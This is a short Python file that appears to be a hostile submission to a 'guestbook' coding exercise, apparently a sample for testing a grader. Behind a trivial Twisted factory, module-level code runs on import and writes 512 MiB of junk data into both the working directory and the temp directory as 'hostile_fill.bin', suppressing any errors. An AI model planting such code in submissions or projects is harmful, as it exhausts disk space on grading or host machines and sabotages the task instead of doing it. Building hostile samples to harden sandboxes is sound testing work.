# exercise: guestbook
# earns: 0 of 6
# It writes 1 GB.

from twisted.internet.protocol import Factory, Protocol


def make_factory(reactor):
    return Factory.forProtocol(Protocol)


import os, tempfile
block = b"x" * (1 << 20)
for folder in (os.getcwd(), tempfile.gettempdir()):
    try:
        with open(os.path.join(folder, "hostile_fill.bin"), "wb") as file:
            for _ in range(512):
                file.write(block)
    except OSError:
        pass
